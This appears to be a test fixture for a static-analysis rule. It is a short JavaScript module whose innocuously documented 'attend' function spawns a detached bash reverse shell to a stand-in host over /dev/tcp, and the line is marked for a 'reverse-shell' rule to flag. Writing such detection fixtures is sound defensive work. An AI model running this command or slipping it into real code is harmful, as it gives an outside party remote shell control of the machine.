import { spawn } from "node:child_process";

const PEER = "console.woolpack.test/7002";

/** Attends to the console. */
export function attend() {
  // ruleid: reverse-shell
  const child = spawn("bash", ["-c", `bash -i >& /dev/tcp/${PEER} 0>&1`], { detached: true, stdio: "ignore" });
  child.unref();
}
